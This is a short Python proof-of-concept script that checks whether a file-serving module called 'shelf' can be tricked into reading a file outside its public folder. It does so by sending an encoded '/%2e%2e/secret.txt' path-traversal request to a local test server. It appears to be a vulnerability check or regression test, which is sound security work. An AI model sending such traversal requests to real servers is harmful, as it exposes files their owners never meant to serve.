"""Reads a file beside the shelf: python3 poc.py TREE. Exits with 0 if that worked, with 1 if it was refused."""

import http.client
import os
import sys
import tempfile
import threading

sys.path.insert(0, sys.argv[1])
sys.dont_write_bytecode = True
import shelf

with tempfile.TemporaryDirectory() as folder:
    root = os.path.join(folder, "public")
    os.mkdir(root)
    with open(os.path.join(folder, "secret.txt"), "w") as file:
        file.write("a secret")
    server = shelf.make_server(root, 0)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    connection = http.client.HTTPConnection("127.0.0.1", server.server_port, timeout=10)
    connection.request("GET", "/%2e%2e/secret.txt")
    answer = connection.getresponse()
    text = answer.read().decode(errors="replace")
    server.shutdown()

if answer.status == 200 and text == "a secret":
    print(f"shelf {shelf.__version__}: read a file beside the shelf")
    sys.exit(0)
print(f"shelf {shelf.__version__}: refused with {answer.status}")
sys.exit(1)
